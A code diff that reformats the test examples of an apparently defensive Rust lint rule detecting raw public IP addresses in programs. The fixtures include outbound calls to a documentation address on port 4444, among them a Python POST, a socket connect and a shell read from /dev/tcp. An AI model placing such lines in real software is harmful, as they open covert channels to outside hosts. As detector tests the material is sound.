@@ -23,15 +23,31 @@ pub static RULE: Rule = Rule {
 };
 
 const EXAMPLES: &[Example] = &[
-    Example { name: "program", files: || one("handler.py", "post('http://203.0.113.5:4444/x')\n"), fires: &["address-raw"] },
-    Example { name: "program-twin", files: || one("handler.py", "post('http://192.168.0.5:4444/x')\n"), fires: &[] },
+    Example {
+        name: "program",
+        files: || one("handler.py", "post('http://203.0.113.5:4444/x')\n"),
+        fires: &["address-raw"],
+    },
+    Example {
+        name: "program-twin",
+        files: || one("handler.py", "post('http://192.168.0.5:4444/x')\n"),
+        fires: &[],
+    },
     Example {
         name: "socket",
         files: || one("handler.py", "s.connect(('203.0.113.5', 4444))\n"),
         fires: &["address-raw"],
     },
-    Example { name: "socket-twin", files: || one("handler.py", "s.connect(('127.0.0.1', 4444))\n"), fires: &[] },
-    Example { name: "shell", files: || one("start.sh", "cat < /dev/tcp/203.0.113.5/4444\n"), fires: &["address-raw"] },
+    Example {
+        name: "socket-twin",
+        files: || one("handler.py", "s.connect(('127.0.0.1', 4444))\n"),
+        fires: &[],
+    },
+    Example {
+        name: "shell",
+        files: || one("start.sh", "cat < /dev/tcp/203.0.113.5/4444\n"),
+        fires: &["address-raw"],
+    },
 ];
 
 fn check(facts: &Facts, findings: &mut Findings<'_>) {
